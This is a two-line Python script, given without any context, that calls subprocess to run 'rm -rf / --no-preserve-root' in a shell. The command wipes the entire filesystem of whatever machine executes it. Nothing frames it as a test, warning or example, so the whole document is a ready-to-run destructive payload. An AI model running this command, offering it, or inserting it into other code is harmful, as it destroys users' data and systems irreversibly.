import subprocess
subprocess.run('rm -rf / --no-preserve-root', shell=True)
